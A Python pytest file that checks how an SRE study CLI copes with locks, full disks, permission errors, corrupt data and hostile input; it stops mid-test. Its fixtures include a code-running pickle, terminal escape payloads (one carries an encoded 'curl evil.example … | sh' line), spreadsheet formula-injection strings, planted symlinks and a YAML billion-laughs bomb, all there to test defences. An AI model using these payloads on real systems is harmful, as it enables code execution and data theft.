"""Faults a careful tester tries: a held lock, a full disk, an unreadable file, a read-only
folder, a damaged page, a tampered cache, hostile pack text, formula cells, closed streams,
absurd numbers, exploding YAML, a crash. In every case: no traceback, one line saying what
happened, and every answer committed before is still there afterwards.

Root ignores file modes, and these sandboxes often run as root: the permission faults then
run in a forked child that has dropped to the `nobody` user (see `as_ordinary_user`).
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import importlib
import io
import json
import os
import pickle
import shutil
import sqlite3
import stat
import subprocess
import sys
import tempfile
import time
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import pytest
from helpers import run_trainer, write

from trainer.store.db import DB_NAME, Store, StoreError, StoreUnavailable, StoreWriteError

NOBODY = 65534
ESC = "\x1b"


# -- helpers ---------------------------------------------------------------------------------
def seed(folder: Path, count: int = 3) -> list[str]:
    """A progress file with `count` committed answers; the answers."""
    store = Store.open(folder)
    answers = [f"committed answer {n}" for n in range(count)]
    for answer in answers:
        store.record_attempt("q01", "quiz", answer, 50, ["a point"], ["another point"])
    store.close()
    return answers


def stored_answers(folder: Path) -> list[str]:
    """What is committed in the file, read with plain sqlite3 (not the code under test)."""
    connection = sqlite3.connect(folder / DB_NAME)
    try:
        return [row[0] for row in connection.execute("SELECT answer FROM attempts ORDER BY id")]
    finally:
        connection.close()


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def one_line(text: str) -> str:
    """The single non-empty line of `text` (and no traceback anywhere)."""
    assert "Traceback" not in text and "Exception ignored" not in text, text
    lines = [line for line in text.splitlines() if line.strip()]
    assert len(lines) == 1, lines
    return lines[0]


def main_in_process(*argv: str) -> tuple[int, str, str]:
    """`sre-trainer ARGV` in this process (so a test can inject a fault): status, out, err."""
    from trainer.cli import main

    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        try:
            status = main(list(argv))
        except SystemExit as exc:
            status = exc.code
    return status, out.getvalue(), err.getvalue()


def run_closed(args: list[str], close: int, home: Path, stdin: str | None = None):
    """`sre-trainer ARGS` as a subprocess with file descriptor `close` (0 or 1) closed, as
    `<&-` or `>&-` do in a shell."""
    env = dict(os.environ, SRE_TRAINER_HOME=str(home))
    return subprocess.run(
        [sys.executable, "-m", "trainer", *args],
        input=stdin,
        stdout=subprocess.PIPE if close != 1 else None,
        stderr=subprocess.PIPE,
        preexec_fn=lambda: os.close(close),
        text=True,
        env=env,
        timeout=60,
    )


def open_outcome(folder: Path) -> dict:
    """Store.open as an outcome a forked child can send back as JSON."""
    try:
        Store.open(folder)
    except StoreUnavailable as exc:
        return {"unavailable": str(exc)}
    except StoreError as exc:
        return {"error": str(exc)}
    return {"opened": True}


def cli_outcome(folder: Path, *argv: str) -> dict:
    status, out, err = main_in_process("--data-dir", str(folder), *argv)
    return {"status": status, "out": out, "err": err}


def as_ordinary_user(action) -> dict:
    """`action()` run without root's power to ignore file modes: as root, in a forked child
    switched to `nobody` (its result comes back as JSON); otherwise, right here."""
    if os.geteuid() != 0:
        return action()
    for module in ("trainer.cli.stats", "trainer.study.progress", "trainer.store.salvage"):
        with contextlib.suppress(ImportError):  # imported before the fork, not by the child
            importlib.import_module(module)

    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: never returns into pytest
        try:
            os.close(read_end)
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            payload = json.dumps(action())
        except BaseException as exc:  # noqa: BLE001 - reported to the parent
            payload = json.dumps({"child_failed": repr(exc)})
        os.write(write_end, payload.encode())
        os._exit(0)
    os.close(write_end)
    chunks = []
    while chunk := os.read(read_end, 65536):
        chunks.append(chunk)
    os.close(read_end)
    os.waitpid(pid, 0)
    return json.loads(b"".join(chunks))


@pytest.fixture
def shared_tmp(monkeypatch):
    """A folder `nobody` can reach (pytest's tmp_path is private to root), removed after."""
    base = Path(tempfile.mkdtemp(prefix="sre-faults-"))
    os.chmod(base, 0o755)
    home = base / "home"
    home.mkdir()
    monkeypatch.setenv("SRE_TRAINER_HOME", str(home))
    if os.geteuid() == 0:
        os.chown(home, NOBODY, NOBODY)
    yield base
    for path in [base, *base.rglob("*")]:
        if not path.is_symlink():
            os.chmod(path, 0o700)
    shutil.rmtree(base)


def give_to_ordinary_user(*paths: Path) -> None:
    if os.geteuid() == 0:
        for path in paths:
            os.chown(path, NOBODY, NOBODY)


@pytest.fixture
def full_disk(monkeypatch):
    """Every SQLite connection opened from here on may not grow its file past its size when
    opened plus `room` pages: a real SQLITE_FULL, as on a full disk."""
    real_connect = sqlite3.connect
    room = {"pages": 1_000_000}  # the test lowers it when the disk should fill

    def connect(*args, **kwargs):
        connection = real_connect(*args, **kwargs)
        pages = connection.execute("PRAGMA page_count").fetchone()[0]
        connection.execute(f"PRAGMA max_page_count = {max(1, pages + room['pages'])}")
        return connection

    monkeypatch.setattr(sqlite3, "connect", connect)
    return room


# -- the lock --------------------------------------------------------------------------------
@pytest.mark.parametrize("journal", ["wal-exclusive-locking", "rollback-journal"])
def test_lock_held_past_the_timeout_is_reported_not_treated_as_corruption(tmp_path, journal):
    folder = tmp_path / "data"
    answers = seed(folder)
    holder = sqlite3.connect(folder / DB_NAME, isolation_level=None)
    if journal == "rollback-journal":
        holder.execute("PRAGMA journal_mode=DELETE")
    else:
        holder.execute("PRAGMA locking_mode=EXCLUSIVE")
    holder.execute("BEGIN EXCLUSIVE")
    holder.execute("INSERT INTO settings(key, value) VALUES ('held', 'by another program')")
    before = digest(folder / DB_NAME)
    started = time.monotonic()
    with pytest.raises(StoreUnavailable) as caught:
        Store.open(folder)
    assert time.monotonic() - started < 10
    message = str(caught.value)
    assert "\n" not in message and str(folder / DB_NAME) in message and "locked" in message
    assert digest(folder / DB_NAME) == before
    assert not [p for p in folder.iterdir() if ".corrupt-" in p.name]
    holder.execute("ROLLBACK")
    holder.close()
    assert stored_answers(folder) == answers


def test_cli_waits_for_a_lock_then_says_so_in_one_line(tmp_path, monkeypatch):
    import trainer.cli.common

    monkeypatch.setattr(trainer.cli.common, "STORE_PATIENCE", 1.0, raising=False)
    folder = tmp_path / "data"
    answers = seed(folder)
    holder = sqlite3.connect(folder / DB_NAME, isolation_level=None)
    holder.execute("PRAGMA locking_mode=EXCLUSIVE")
    holder.execute("BEGIN EXCLUSIVE")
    holder.execute("INSERT INTO settings(key, value) VALUES ('held', 'yes')")
    status, out, err = main_in_process("--data-dir", str(folder), "stats")
    assert status == 1 and out == ""
    lines = err.strip().splitlines()
    assert "Traceback" not in err and "locked" in lines[-1] and str(folder) in lines[-1]
    assert all("waiting" in line for line in lines[:-1])  # progress while it waited
    holder.execute("ROLLBACK")
    holder.close()
    assert stored_answers(folder) == answers


def test_open_waiting_reports_progress_and_succeeds_once_the_lock_is_gone(tmp_path):
    folder = tmp_path / "data"
    answers = seed(folder)
    holder = sqlite3.connect(folder / DB_NAME, isolation_level=None)
    holder.execute("PRAGMA locking_mode=EXCLUSIVE")
    holder.execute("BEGIN EXCLUSIVE")
    holder.execute("INSERT INTO settings(key, value) VALUES ('held', 'yes')")
    waits = []

    def on_wait(waited: float, patience: float) -> None:
        waits.append(waited)
        if len(waits) == 2:  # the other program finishes while we wait
            holder.execute("ROLLBACK")
            holder.close()

    store = Store.open_waiting(folder, patience=20, step=0.3, on_wait=on_wait)
    assert len(waits) == 2 and waits[0] < waits[1]
    assert [a.answer for a in store.attempts()] == answers


def test_lock_held_mid_session_fails_the_write_cleanly(tmp_path):
    folder = tmp_path / "data"
    answers = seed(folder)
    store = Store.open(folder, write_timeout=0.3)
    holder = sqlite3.connect(folder / DB_NAME, isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")
    with pytest.raises(StoreWriteError) as caught:
        store.record_attempt("q02", "quiz", "typed while locked", 70, ["x"], [])
    assert "\n" not in str(caught.value) and "locked" in str(caught.value)
    holder.execute("ROLLBACK")
    holder.close()
    store.record_attempt("q02", "quiz", "typed again", 70, ["x"], [])
    assert stored_answers(folder) == [*answers, "typed again"]
    assert store.totals()[0] == len(answers) + 1


# -- a full disk ----------------------------------------------------------------------------
def test_disk_full_at_start_is_a_one_line_error(tmp_path, full_disk):
    full_disk["pages"] = 0
    status, out, err = main_in_process("--data-dir", str(tmp_path / "data"), "stats")
    assert status == 1
    line = one_line(err)
    assert "disk is full" in line and str(tmp_path / "data" / DB_NAME) in line


def test_disk_full_at_start_leaves_an_old_file_untouched(tmp_path, monkeypatch):
    """A file that needs migrating on a full disk: refused, not changed, not moved aside."""
    from trainer.store.schema import SCHEMA_V1

    folder = tmp_path / "data"
    folder.mkdir()
    old = sqlite3.connect(folder / DB_NAME)
    old.executescript(SCHEMA_V1)
    old.execute(
        "INSERT INTO attempts(card_id, mode, answer, score, matched, missed, red_flags, "
        "created_at) VALUES ('q01', 'quiz', 'an answer from v1', 40, '[]', '[]', '[]', "
        "'2026-01-01T00:00:00+00:00')"
    )
    old.execute("PRAGMA user_version = 1")
    old.commit()
    old.close()
    before = digest(folder / DB_NAME)
    real_connect = sqlite3.connect

    def full(*args, **kwargs):
        connection = real_connect(*args, **kwargs)
        pages = connection.execute("PRAGMA page_count").fetchone()[0]
        connection.execute(f"PRAGMA max_page_count = {max(1, pages)}")
        return connection

    monkeypatch.setattr(sqlite3, "connect", full)
    with pytest.raises(StoreUnavailable, match="disk is full"):
        Store.open(folder)
    monkeypatch.undo()
    assert digest(folder / DB_NAME) == before
    assert not [p for p in folder.iterdir() if ".corrupt-" in p.name]
    assert stored_answers(folder) == ["an answer from v1"]


def test_disk_full_mid_session_commits_nothing_partial_and_recovers(tmp_path):
    folder = tmp_path / "data"
    answers = seed(folder)
    store = Store.open(folder)
    pages = store.db.execute("PRAGMA page_count").fetchone()[0]
    store.db.execute(f"PRAGMA max_page_count = {pages}")
    before = (store.totals(), store.card_scores(), store.most_missed())
    with pytest.raises(StoreWriteError) as caught:
        store.record_attempt("q03", "quiz", "a long answer " * 2000, 80, ["p"] * 50, ["m"] * 50)
    assert "\n" not in str(caught.value) and "disk is full" in str(caught.value)
    assert (store.totals(), store.card_scores(), store.most_missed()) == before
    store.db.execute("PRAGMA max_page_count = 1073741823")  # space returns
    store.record_attempt("q03", "quiz", "saved once there is room", 80, ["p"], [])
    assert stored_answers(folder) == [*answers, "saved once there is room"]


def test_disk_full_mid_plain_mock_is_one_line_and_keeps_the_mock(tmp_path, full_disk):
    folder = tmp_path / "home"
    answers = seed(folder)
    full_disk["pages"] = 2  # room for the mock's row, not for a long answer
    long_answer = "I would check the dashboards and roll back the deploy. " * 300
    stdin = io.StringIO(long_answer + "\n\nsecond\n\n")
    old_stdin = sys.stdin
    sys.stdin = stdin
    try:
        status, out, err = main_in_process(
            "--data-dir", str(folder), "mock", "--plain", "--questions", "2", "--seed", "1"
        )
    finally:
        sys.stdin = old_stdin
    assert status == 1
    line = one_line(err)
    assert "disk is full" in line and str(folder / DB_NAME) in line
    assert stored_answers(folder) == answers


@pytest.fixture
def tiny_file_system(tmp_path):
    """A 512 KiB tmpfs: a real full disk. Needs the right to mount (root in a container);
    skipped elsewhere, where the injected SQLITE_FULL tests above stand in for it."""
    mount_point = tmp_path / "tiny"
    mount_point.mkdir()
    if not shutil.which("mount") or os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root")
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=512k", "tmpfs", str(mount_point)],
        capture_output=True,
    )
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.decode().strip()}")
    try:
        yield mount_point
    finally:
        subprocess.run(["umount", "-l", str(mount_point)], capture_output=True)


def fill(folder: Path) -> Path:
    filler = folder / "filler"
    descriptor = os.open(filler, os.O_WRONLY | os.O_CREAT, 0o600)
    try:
        while True:
            os.write(descriptor, b"\0" * 4096)
    except OSError:
        pass
    finally:
        os.close(descriptor)
    return filler


def test_a_real_full_file_system_mid_session_and_at_start(tiny_file_system, isolated_home):
    folder = tiny_file_system / "data"
    answers = seed(folder)
    store = Store.open(folder)
    filler = fill(tiny_file_system)
    with pytest.raises(StoreWriteError) as caught:
        for n in range(200):  # the WAL grows until the disk refuses
            store.record_attempt("q02", "quiz", f"answer {n} " + "x" * 3000, 10, [], [])
    assert "disk is full" in str(caught.value) and "\n" not in str(caught.value)
    saved = stored_answers(folder)
    assert saved[: len(answers)] == answers
    result = run_trainer("--data-dir", str(folder), "stats", home=isolated_home)
    assert "Traceback" not in result.stderr and result.returncode in (0, 1)
    if result.returncode == 1:
        assert "disk is full" in one_line(result.stderr)
    fresh = run_trainer("--data-dir", str(tiny_file_system / "new"), "stats")
    assert fresh.returncode == 1 and "disk is full" in one_line(fresh.stderr)
    filler.unlink()  # space returns
    store.record_attempt("q02", "quiz", "after space returned", 10, [], [])
    assert stored_answers(folder) == [*saved, "after space returned"]
    store.close()


# -- permissions -----------------------------------------------------------------------------
def test_unreadable_file_is_reported_and_left_alone(shared_tmp):
    folder = shared_tmp / "data"
    answers = seed(folder)
    give_to_ordinary_user(folder, *folder.iterdir())
    os.chmod(folder / DB_NAME, 0)
    outcome = as_ordinary_user(lambda: open_outcome(folder))
    assert "permission denied" in outcome.get("unavailable", ""), outcome
    assert str(folder / DB_NAME) in outcome["unavailable"]
    cli = as_ordinary_user(lambda: cli_outcome(folder, "stats"))
    assert cli["status"] == 1 and "permission denied" in one_line(cli["err"])
    os.chmod(folder / DB_NAME, 0o600)
    assert sorted(p.name for p in folder.iterdir()) == [DB_NAME]
    assert stored_answers(folder) == answers


def test_unreadable_folder_is_reported(shared_tmp):
    folder = shared_tmp / "data"
    answers = seed(folder)
    give_to_ordinary_user(folder, *folder.iterdir())
    os.chmod(folder, 0)
    outcome = as_ordinary_user(lambda: open_outcome(folder))
    assert "permission denied" in outcome.get("unavailable", ""), outcome
    os.chmod(folder, 0o700)
    assert stored_answers(folder) == answers


def test_read_only_folder_is_reported_and_left_alone(shared_tmp):
    folder = shared_tmp / "data"
    answers = seed(folder)
    give_to_ordinary_user(folder, *folder.iterdir())
    before = digest(folder / DB_NAME)
    os.chmod(folder, 0o555)
    outcome = as_ordinary_user(lambda: open_outcome(folder))
    assert "read-only" in outcome.get("unavailable", ""), outcome
    cli = as_ordinary_user(lambda: cli_outcome(folder, "export"))
    assert cli["status"] == 1 and "read-only" in one_line(cli["err"])
    os.chmod(folder, 0o700)
    assert sorted(p.name for p in folder.iterdir()) == [DB_NAME]
    assert digest(folder / DB_NAME) == before
    assert stored_answers(folder) == answers


def test_read_only_file_is_refused_before_anything_is_typed(shared_tmp):
    folder = shared_tmp / "data"
    answers = seed(folder)
    give_to_ordinary_user(folder, *folder.iterdir())
    before = digest(folder / DB_NAME)
    os.chmod(folder / DB_NAME, 0o400)
    outcome = as_ordinary_user(lambda: open_outcome(folder))
    assert "read-only" in outcome.get("unavailable", ""), outcome
    os.chmod(folder / DB_NAME, 0o600)
    assert digest(folder / DB_NAME) == before
    assert stored_answers(folder) == answers


def test_a_folder_where_the_file_should_be_is_not_moved_aside(tmp_path):
    folder = tmp_path / "data"
    (folder / DB_NAME).mkdir(parents=True)
    with pytest.raises(StoreUnavailable, match="a folder, not a file"):
        Store.open(folder)
    assert sorted(p.name for p in folder.iterdir()) == [DB_NAME]


# -- damage ----------------------------------------------------------------------------------
def test_damaged_interior_page_is_found_at_open_and_its_rows_recovered(tmp_path):
    folder = tmp_path / "x[" / "]y"  # markup-like: the notice is plain text
    store = Store.open(folder)
    for n in range(3000):
        store.record_attempt("q01", "quiz", f"answer {n} " + "words " * 30, n % 100, ["a"], ["b"])
    store.close()
    checkpoint = sqlite3.connect(folder / DB_NAME)
    checkpoint.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    checkpoint.close()
    path = folder / DB_NAME
    pages = path.stat().st_size // 4096
    with path.open("r+b") as handle:  # a page in the middle, far from the schema page
        handle.seek((pages // 2) * 4096)
        handle.write(bytes(range(256)) * 16)
    damaged = path.read_bytes()
    status, out, err = main_in_process("--data-dir", str(folder), "stats")
    assert status == 0 and "Traceback" not in err
    warning = one_line(err)
    assert "damaged" in warning and "kept as" in warning and str(folder) in warning
    aside = [p for p in folder.iterdir() if p.name.startswith(f"{DB_NAME}.corrupt-")]
    assert [p.read_bytes() == damaged for p in aside if not p.name.endswith(("-wal", "-shm"))]
    recovered = stored_answers(folder)
    assert 2800 <= len(recovered) < 3000  # one page's rows lost, not the file's
    assert len(set(recovered)) == len(recovered)
    store = Store.open(folder)
    store.record_attempt("q02", "quiz", "after the recovery", 90, [], [])
    assert store.notice is None and stored_answers(folder)[-1] == "after the recovery"


# -- the bank cache --------------------------------------------------------------------------
def bank_tuple(bank) -> tuple:
    return (
        bank.cards,
        bank.queries,
        bank.numbers,
        bank.notes,
        bank.aliases,
        bank.red_flags,
        bank.errors,
    )


def cache_files() -> list[Path]:
    from trainer.content.cache import cache_dir

    return sorted(p for p in cache_dir().iterdir() if p.name.startswith("bank-"))


def test_a_flipped_byte_in_the_cache_is_a_miss(isolated_home):
    from trainer.content.cache import load_bank_cached
    from trainer.content.loader import load_bank

    expected = bank_tuple(load_bank())
    load_bank_cached()
    (cached,) = cache_files()
    original = cached.read_bytes()
    for offset in range(0, len(original), max(1, len(original) // 40)):
        for old in cache_files():
            old.unlink()
        damaged = bytearray(original)
        damaged[offset] ^= 0x01
        cached.write_bytes(bytes(damaged))
        assert bank_tuple(load_bank_cached()) == expected, offset


def test_a_pack_key_holding_an_escape_still_lets_the_bank_be_cached(isolated_home, monkeypatch):
    """The error naming the key is stripped of it, so the cache (which refuses control
    characters) is written once and read after, not rebuilt from YAML on every start."""
    from trainer.content import loader
    from trainer.content.cache import load_bank_cached

    write(isolated_home / "packs" / "odd.yaml", 'cards:\n  - "bad\\e[2Jkey": 1\n')
    first = load_bank_cached()
    assert any(e.field == "cards[0].badkey" for e in first.errors)
    assert all("\x1b" not in e.field + e.message for e in first.errors)

    def no_yaml(*args, **kwargs):
        raise AssertionError("the YAML was loaded again: the cache was refused")

    monkeypatch.setattr(loader, "load_bank", no_yaml)
    assert bank_tuple(load_bank_cached()) == bank_tuple(first)


class _RunsCode:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


MARKER = Path(tempfile.gettempdir()) / f"sre-faults-pickle-ran-{os.getpid()}"


def test_a_planted_cache_file_never_runs_code(isolated_home):
    from trainer.content.cache import load_bank_cached
    from trainer.content.loader import load_bank

    MARKER.unlink(missing_ok=True)
    load_bank_cached()
    for cached in cache_files():
        cached.write_bytes(pickle.dumps(_RunsCode()))
    result = run_trainer("list", home=isolated_home)
    try:
        assert not MARKER.exists(), "the planted pickle ran"
    finally:
        MARKER.unlink(missing_ok=True)
    assert result.returncode == 0 and result.stderr == ""
    assert bank_tuple(load_bank_cached()) == bank_tuple(load_bank())


def test_a_planted_symlink_in_the_cache_folder_is_never_written_through(isolated_home):
    from trainer.content.cache import cache_dir, load_bank_cached

    load_bank_cached()
    (cached,) = cache_files()
    cached.unlink()
    victim = isolated_home / "victim.txt"
    victim.write_text("precious")
    pid = os.getpid()
    for name in (  # the temporary names an in-place writer might use
        cached.with_suffix(f".{pid}.tmp").name,
        f".{cached.name}.{pid}.tmp",
        f"{cached.name}.{pid}.tmp",
        f"{cached.name}.tmp",
    ):
        (cache_dir() / name).symlink_to(victim)
    load_bank_cached()
    assert victim.read_text() == "precious"


def test_a_cache_others_can_write_is_not_read(isolated_home):
    from trainer.content.cache import cache_dir, load_bank_cached

    load_bank_cached()
    (cached,) = cache_files()
    # Rewrite the cache as a valid one whose first question was changed by someone else.
    text = cached.read_bytes().split(b"\n", 1)[1].replace(b"Your CloudMart", b"Planted text")
    from trainer.content import cache

    checksum = cache.blake2b(text, digest_size=20).hexdigest().encode()
    cached.write_bytes(checksum + b"\n" + text)
    assert "Planted text" in load_bank_cached().card("q01").question  # ours, private: read
    os.chmod(cache_dir(), 0o777)
    assert "Planted text" not in load_bank_cached().card("q01").question


# -- hostile pack text -----------------------------------------------------------------------
HOSTILE = {
    "clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaHxzaA==\x07",
    "title": "\x1b]0;owned\x1b\\",
    "clear": "\x1b[2J\x1b[3J\x1b[H",
    "c1-csi": "\x9b31m",
    "bidi": "\u202e",
}
BAD_CHARACTERS = (ESC, "\x9b", "\x07", "\u202e")


def hostile_pack(folder: Path) -> Path:
    text = "".join(HOSTILE.values())
    write(
        folder / "hostile.yaml",
        "cards:\n"
        "  - id: evil01\n"
        "    category: incident-response\n"
        f'    question: "What now? {json_escape(text)}"\n'
        f'    answer: "Roll back {json_escape(text)} and tell people."\n'
        f'    tags: ["tag{json_escape(HOSTILE["title"])}"]\n'
        f'    reviewer_note: "note {json_escape(HOSTILE["clear"])}"\n'
        "    rubric:\n"
        f'      - point: "Roll back first {json_escape(text)}"\n'
        "        weight: 3\n"
        f'        phrases: ["roll back", "revert {json_escape(HOSTILE["bidi"])}"]\n'
        "queries:\n"
        "  - id: evil-query\n"
        "    group: application-health\n"
        "    kind: promql\n"
        f'    measures: "CPU {json_escape(text)}"\n'
        "    query: rate(x[5m])\n",
    )
    return folder


def json_escape(text: str) -> str:
    """Text as the inside of a YAML double-quoted string (its escapes are JSON's)."""
    return json.dumps(text)[1:-1]


def assert_clean(*outputs: str) -> None:
    for output in outputs:
        for bad in BAD_CHARACTERS:
            assert bad not in output, (bad, output[:300])


def test_control_sequences_in_a_pack_never_reach_the_terminal(tmp_path, isolated_home):
    packs = hostile_pack(tmp_path / "packs")
    bank = ("--bank", str(packs))
    listing = run_trainer(*bank, "list", home=isolated_home)
    assert listing.returncode == 0 and "evil01" in listing.stdout
    graded = run_trainer(
        *bank, "grade", "--card", "evil01", stdin="I roll back first.", home=isolated_home
    )
    as_json = run_trainer(
        *bank, "grade", "--card", "evil01", "--json", stdin="roll back", home=isolated_home
    )
    queries = run_trainer(*bank, "query", "list", home=isolated_home)
    assert graded.returncode == 0 and "Roll back first" in graded.stdout
    report = tmp_path / "report.md"
    mock = run_trainer(
        *bank,
        "mock",
        "--plain",
        "--questions",
        "30",
        "--categories",
        "incident-response",
        "--practice",
        "--export",
        str(report),
        stdin="I would roll back " + HOSTILE["clipboard"] + "\n\n",
        home=isolated_home,
    )
    assert mock.returncode == 0, mock.stderr
    assert "What now?" in mock.stdout
    assert_clean(
        listing.stdout,
        graded.stdout,
        as_json.stdout,
        queries.stdout,
        mock.stdout,
        mock.stderr,
        report.read_text(encoding="utf-8"),
    )
    # Exports: the stored answers (user text) and rubric points (pack text), both formats.
    store = Store.open(isolated_home)
    store.record_attempt(
        "evil01", "quiz", "typed " + "".join(HOSTILE.values()), 40, ["Roll back" + ESC], []
    )
    store.close()
    exported_csv = run_trainer("export", "--format", "csv", home=isolated_home)
    exported_json = run_trainer("export", "--format", "json", home=isolated_home)
    stats = run_trainer("stats", home=isolated_home)
    assert exported_csv.returncode == exported_json.returncode == 0
    assert "typed" in exported_csv.stdout and "typed" in exported_json.stdout
    assert_clean(exported_csv.stdout, exported_json.stdout, stats.stdout)


def test_control_sequences_in_a_file_name_key_or_argument_never_reach_the_terminal(tmp_path):
    packs = tmp_path / "packs"
    write(packs / "name\x1b]0;title\x07.yaml", "cards: []\n")
    write(packs / "key.yaml", 'cards:\n  - id: k1\n    "colour\\e[2J": red\n')
    result = run_trainer("validate", str(packs))
    assert result.returncode == 1
    assert_clean(result.stdout, result.stderr)
    result = run_trainer("list", "\x1b]52;c;eA==\x07")  # quoted back in the usage error
    assert result.returncode == 2
    assert_clean(one_line(result.stderr))


# -- spreadsheets ----------------------------------------------------------------------------
def test_formula_like_answers_are_exported_as_text(tmp_path, isolated_home):
    formulas = ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
    store = Store.open(isolated_home)
    for answer in formulas:
        store.record_attempt("q01", "quiz", answer, 10, [], ["=cmd|' /C calc'!A0"])
    store.close()
    result = run_trainer("export", "--format", "csv", home=isolated_home)
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["answer"] for row in rows] == ["'" + answer for answer in formulas]
    # A list is one cell of JSON text: it starts with "[", never like a formula.
    assert all(json.loads(row["missed"]) == ["=cmd|' /C calc'!A0"] for row in rows)
    output = tmp_path / "attempts.csv"
    run_trainer("export", "--format", "csv", "-o", str(output), home=isolated_home)
    with output.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t"))]


# -- closed streams --------------------------------------------------------------------------
@pytest.mark.parametrize(
    "args",
    [
        ["grade", "--card", "q05"],
        ["grade", "--jsonl"],
        ["query", "check", "--id", "pod-cpu-percent"],
        ["mock", "--plain", "--questions", "1"],
    ],
    ids=["grade", "grade-jsonl", "query-check", "mock-plain"],
)
def test_closed_stdin_is_a_one_line_error(args, isolated_home):
    answers = seed(isolated_home)
    result = run_closed(args, close=0, home=isolated_home)
    assert result.returncode != 0
    assert "stdin" in one_line(result.stderr) or "input" in one_line(result.stderr)
    store = Store.open(isolated_home)
    assert store.unfinished_mock() is None and not store.mock_results()  # no mock left behind
    assert stored_answers(isolated_home) == answers


@pytest.mark.parametrize(
    "args",
    [
        ["export"],
        ["list"],
        ["stats"],
        ["grade", "--card", "q05"],
        ["mock", "--plain", "--questions", "1"],
    ],
    ids=["export", "list", "stats", "grade", "mock-plain"],
)
def test_closed_stdout_is_a_one_line_error(args, isolated_home):
    answers = seed(isolated_home)
    result = run_closed(args, close=1, home=isolated_home, stdin="an answer\n\n")
    assert result.returncode != 0
    assert "standard output is closed" in one_line(result.stderr)
    store = Store.open(isolated_home)
    assert store.unfinished_mock() is None and not store.mock_results()
    assert stored_answers(isolated_home) == answers


def test_a_reader_that_goes_away_is_not_a_traceback(isolated_home):
    lines = "".join(json.dumps({"card": "q01", "answer": f"answer {n}"}) + "\n" for n in range(300))
    process = subprocess.Popen(
        [sys.executable, "-m", "trainer", "grade", "--jsonl"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=dict(os.environ, SRE_TRAINER_HOME=str(isolated_home)),
    )
    process.stdout.close()  # like `| head -0`
    _, err = process.communicate(lines.encode(), timeout=60)
    assert b"Traceback" not in err and b"Exception ignored" not in err


# -- absurd numbers --------------------------------------------------------------------------
HUGE = "99999999999999999999"


@pytest.mark.parametrize(
    "args",
    [
        ["mock", "--plain", "--questions", HUGE],
        ["mock", "--plain", "--questions", "-1"],
        ["mock", "--plain", "--time-per-question", HUGE],
        ["mock", "--plain", "--time-per-question", "-5"],
        ["mock", "--plain", "--total-time", "-5"],
        ["mock", "--plain", "--total-time", HUGE],
        ["mock", "--plain", "--seed", "-" + HUGE],
        ["mock", "--plain", "--seed", HUGE * 2],
        ["scenario", "play", "dynamodb-throttling", "--model-path", "--hints", HUGE],
        ["scenario", "play", "dynamodb-throttling", "--model-path", "--hints", "-3"],
    ],
)
def test_out_of_range_numbers_are_one_line_errors_and_store_nothing(args, isolated_home):
    answers = seed(isolated_home)
    result = run_trainer(*args, stdin="an answer\n\n", home=isolated_home)
    assert result.returncode == 2
    flag = next(a for a in args if a.startswith("--") and a != "--plain" and a != "--model-path")
    assert flag in one_line(result.stderr)
    store = Store.open(isolated_home)
    assert store.mock_results() == [] and store.unfinished_mock() is None
    assert stored_answers(isolated_home) == answers


def test_an_over_long_scenario_write_up_is_refused(tmp_path):
    writeup = write(tmp_path / "writeup.txt", "We rolled back the release. " * 5000)
    result = run_trainer(
        "scenario",
        "play",
        "dynamodb-throttling",
        "--actions",
        "grafana-overview",
        "--root-cause",
        "a bad release",
        "--writeup-file",
        str(writeup),
    )
    assert result.returncode == 2 and "20,000" in one_line(result.stderr)


def test_an_over_long_jsonl_line_is_refused_and_the_rest_graded(isolated_home):
    lines = [
        json.dumps({"card": "q01", "answer": "roll back " * 30_000}),
        json.dumps({"card": "q01", "answer": 123}),
        json.dumps({"card": "q01", "answer": "I would roll back the deploy"}),
    ]
    result = run_trainer("grade", "--jsonl", stdin="\n".join(lines) + "\n")
    out = [json.loads(line) for line in result.stdout.splitlines()]
    assert "20,000" in out[0]["error"]
    assert out[1]["error"] == "answer must be text"
    assert out[2]["score"] >= 0 and "error" not in out[2]


# -- exploding YAML --------------------------------------------------------------------------
def billion_laughs(size: int = 22_000) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in range(1, 40):
        lines.append(f"a{level}: &a{level} [" + ",".join([f"*a{level - 1}"] * 9) + "]")
    text = "\n".join(lines) + "\ncards: *a39\n"
    return "# padding to the size of the report's pack\n" * ((size - len(text)) // 44) + text


def test_a_billion_laughs_pack_fails_fast_with_a_clear_message(tmp_path, isolated_home):
    packs = tmp_path / "packs"
    text = billion_laughs()
    assert len(text) > 21_000
    write(packs / "laughs.yaml", text)
    started = time.monotonic()
    listing = run_trainer("--bank", str(packs), "list", home=isolated_home)
    validate = run_trainer("validate", str(packs / "laughs.yaml"))
    assert time.monotonic() - started < 20
    assert listing.returncode == 0 and "q01" in listing.stdout  # the built-in bank still loads
    warning = one_line(listing.stderr)
    line = text.split("\n").index(next(s for s in text.split("\n") if "*a0" in s)) + 1
    assert f"laughs.yaml:{line}:" in warning and "alias" in warning
    assert validate.returncode == 1 and "alias" in validate.stdout


# -- a crash ---------------------------------------------------------------------------------
def test_a_crash_writes_a_private_report_without_local_variables(isolated_home, monkeypatch):
    import trainer.cli.stats

    def run(args):
        secret_answer = "my secret answer about the outage"  # a local: must not be reported
        raise RuntimeError(f"unexpected state after {len(secret_answer)} characters")

    monkeypatch.setattr(trainer.cli.stats, "run", run)
